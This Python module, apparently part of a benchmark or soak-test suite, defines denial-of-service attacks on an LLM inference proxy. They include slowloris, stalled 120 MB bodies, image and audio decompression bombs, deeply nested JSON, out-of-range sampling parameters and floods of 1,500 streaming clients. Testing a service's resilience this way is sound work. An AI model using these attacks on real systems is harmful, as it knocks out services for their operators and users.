"""The attacks: what is sent, and how often again."""

from __future__ import annotations

import asyncio
import base64
import contextlib
import json
from collections.abc import Awaitable, Callable, Mapping
from dataclasses import dataclass
from types import MappingProxyType
from typing import Any
from urllib.parse import urlsplit

import aiohttp

from benchmarks.attack.bombs import blanks, clip, ico, nested, png, qoi, sound, url_of
from benchmarks.soak.stack import MODEL

STREAMS = 1500
BURST = f"{STREAMS:,} clients that stream, at once"
_WHO = MappingProxyType({"authorization": "Bearer attacker", "content-type": "application/json"})
_PATH = "/v1/chat/completions"
_HUGE = 120_000_000
_PIECE = bytes(1 << 20)
_SLOW = 500
_BLANKS, _DEPTH, _SOUND = 15_000_000, 5_000_000, 12_000_000
_FRAMES = 50_000  # 500 s at 100 frames/s, which is within the bounds
_AGAIN_S = 10.0
_EXTREMES: tuple[Mapping[str, Any], ...] = (
    {"n": 10**15}, {"logit_bias": {"1000000": 1}}, {"logprobs": True, "top_logprobs": 10_000},
    {"stop_token_ids": [1_000_000], "min_tokens": 2}, {"temperature": -1}, {"min_p": 2},
    {"max_tokens": 2**62},
)  # fmt: skip


@dataclass(frozen=True)
class Attacker:
    """One client that means harm, and the proxy at which it aims."""

    session: aiohttp.ClientSession
    url: str

    async def post(self, **fields: Any) -> None:
        body = {"model": MODEL, "messages": _saying("Hello"), "max_tokens": 16, **fields}
        await self.send(json.dumps(body).encode())

    async def send(self, body: bytes, path: str = _PATH) -> None:
        with contextlib.suppress(aiohttp.ClientError, TimeoutError):
            async with self.session.post(self.url + path, data=body, headers=_WHO) as answer:
                await answer.read()

    async def show(self, *urls: str) -> None:
        parts = [{"type": "image_url", "image_url": {"url": url}} for url in urls]
        await self.post(messages=_saying(parts))

    async def connected(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        """A connection on which it writes by itself."""
        host, _, port = urlsplit(self.url).netloc.rpartition(":")
        return await asyncio.open_connection(host, int(port))


def _saying(content: Any) -> list[dict[str, Any]]:
    return [{"role": "user", "content": content}]


async def _priorities(who: Attacker) -> None:
    await asyncio.gather(who.post(priority=2**64 - 1), who.post(priority=-(2**63)))


async def _extremes(who: Attacker) -> None:
    await asyncio.gather(*(who.post(**fields) for fields in _EXTREMES))


def _pictures(data: bytes, count: int) -> Callable[[Attacker], Awaitable[None]]:
    url = url_of(data)

    async def shown(who: Attacker) -> None:
        await asyncio.gather(*(who.show(url) for _ in range(count)))

    return shown


def _parts(kind: str, given: Any, count: int) -> Callable[[Attacker], Awaitable[None]]:
    """So many chats at once with a part of this kind."""
    body = {"model": MODEL, "messages": _saying([{"type": kind, kind: given}]), "max_tokens": 16}
    data = json.dumps(body).encode()
    return _bytes(data, _PATH, count)


def _bytes(data: bytes, path: str, count: int) -> Callable[[Attacker], Awaitable[None]]:
    async def sent(who: Attacker) -> None:
        await asyncio.gather(*(who.send(data, path) for _ in range(count)))

    return sent


def _clips(count: int) -> Callable[[Attacker], Awaitable[None]]:
    return _parts("video_url", {"url": url_of(clip(_FRAMES), "video/mp4")}, count)


def _sounds(count: int) -> Callable[[Attacker], Awaitable[None]]:
    data = base64.b64encode(sound(_SOUND)).decode()
    return _parts("input_audio", {"data": data, "format": "wav"}, count)


async def _hosts(who: Attacker) -> None:
    names = [[f"http://{r}-{n}.invalid/a.png" for n in range(32)] for r in range(2)]
    await asyncio.gather(*(who.show(*some) for some in names))


def _head(size: int) -> bytes:
    named = "".join(f"{name}: {value}\r\n" for name, value in _WHO.items())
    return f"POST {_PATH} HTTP/1.1\r\nhost: x\r\n{named}content-length: {size}\r\n\r\n".encode()


async def _bodies(who: Attacker) -> None:
    """Eight that are nearly whole, then silence until the proxy gives them up."""

    async def one() -> None:
        with contextlib.suppress(OSError):
            reader, writer = await who.connected()
            writer.write(_head(_HUGE))
            for _ in range(_HUGE // len(_PIECE) - 1):
                writer.write(_PIECE)
                await writer.drain()
            await reader.read()
            writer.close()

    await asyncio.gather(*(one() for _ in range(8)))


async def _slowloris(who: Attacker) -> None:
    """Heads of which a byte comes each second."""

    async def one(number: int) -> None:
        with contextlib.suppress(OSError):
            _, writer = await who.connected()
            await asyncio.sleep(number / _SLOW)
            for byte in _head(100):
                writer.write(bytes([byte]))
                await asyncio.sleep(1.0)

    await asyncio.gather(*map(one, range(_SLOW)))


def _streams(within_s: float) -> Callable[[Attacker], Awaitable[None]]:
    """All begin within so many seconds; each asks again a while after it was answered or
    refused."""

    async def asked(who: Attacker) -> None:
        async def one(number: int) -> None:
            await asyncio.sleep(number / STREAMS * within_s)
            while True:
                await who.post(stream=True, ignore_eos=True)
                await asyncio.sleep(_AGAIN_S)

        await asyncio.gather(*map(one, range(STREAMS)))

    return asked


@dataclass(frozen=True)
class Attack:
    """`once` is begun anew `pause_s` after it has ended."""

    once: Callable[[], Callable[[Attacker], Awaitable[None]]]
    pause_s: float = 0.1


ATTACKS: Mapping[str, Attack] = MappingProxyType(
    {
        "priorities of 64 bits, 20/s": Attack(lambda: _priorities),
        "sampling parameters beyond all bounds, 70/s": Attack(lambda: _extremes),
        "8 PNGs of 8000 x 8000": Attack(lambda: _pictures(png(8000), 8), 1.0),
        "4 ICOs with a PNG of 13000 x 13000 inside": Attack(lambda: _pictures(ico(13_000), 4), 1.0),
        "2 QOIs of 16 MB": Attack(lambda: _pictures(qoi(16_000_000), 2), 1.0),
        "15 MB of blanks to tokenize": Attack(lambda: _bytes(blanks(_BLANKS), "/tokenize", 2), 1.0),
        "2 bodies of 5,000,000 nested arrays": Attack(
            lambda: _bytes(nested(_DEPTH), _PATH, 2), 1.0
        ),
        "2 clips of 50,000 frames of 8192 x 4320": Attack(lambda: _clips(2), 1.0),
        "2 WAVs that say they have 4 GB": Attack(lambda: _sounds(2), 1.0),
        "2 x 32 hosts that have no address": Attack(lambda: _hosts, 1.0),
        "8 bodies of 120 MB, then silence": Attack(lambda: _bodies, 1.0),
        f"slowloris on {_SLOW} connections": Attack(lambda: _slowloris),
        BURST: Attack(lambda: _streams(0.0)),
        f"{STREAMS:,} clients that stream, in turn": Attack(lambda: _streams(_AGAIN_S)),
    }
)
